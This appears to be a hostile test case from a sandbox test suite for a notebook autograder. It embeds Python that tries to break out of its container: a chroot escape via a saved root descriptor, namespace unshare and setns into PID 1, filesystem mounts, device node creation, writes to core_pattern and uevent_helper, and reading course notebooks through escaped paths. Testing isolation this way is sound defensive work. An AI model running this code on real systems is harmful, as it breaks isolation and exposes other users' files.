"""As an administrator of its own room the process tries to leave it: chroot upwards, mounts, new namespaces, setns, devices."""

KIND, GROUP = "hostile", "sandbox"
DESERVED = 0


def apply(s):
    s.wrong()
    s.spy("""
import ctypes, glob, os
libc = ctypes.CDLL(None, use_errno=True)

def attempt(act):
    try:
        return act()
    except BaseException:
        return None

pid = os.fork()
if pid == 0:
    attempt(lambda: libc.unshare(0x10000000 | 0x00020000))
    attempt(lambda: open("/proc/self/uid_map", "w").write("0 0 1"))
    os.makedirs("room", exist_ok=True)
    top = os.open("/", os.O_RDONLY)
    attempt(lambda: os.chroot("room"))
    attempt(lambda: os.fchdir(top))
    for _ in range(40):
        attempt(lambda: os.chdir(".."))
    attempt(lambda: os.chroot("."))
    for kind in (b"proc", b"sysfs", b"tmpfs", b"cgroup2"):
        attempt(lambda: libc.mount(kind, b"/tmp", kind, 0, None))
    for root in ("/old", "/oldroot", "/.old", "/put_old", "/.pivot_root", "/proc/1/root", "/mnt", ""):
        for path in glob.glob(root + "/tmp/*/work*/course/source/*/*.ipynb") + glob.glob(root + "/*/course/source/ps1/ps1.ipynb"):
            attempt(lambda: _out(open(path).read()))
    for name in ("mnt", "pid", "net", "user"):
        attempt(lambda: libc.setns(os.open(f"/proc/1/ns/{name}", os.O_RDONLY), 0))
    attempt(lambda: os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0)))
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger-not", "/sys/kernel/uevent_helper"):
        attempt(lambda: open(path, "r+"))
    _mark("~/broke-out")
    _mark("../../../broke-out")
    os._exit(0)
os.waitpid(pid, 0)
""")
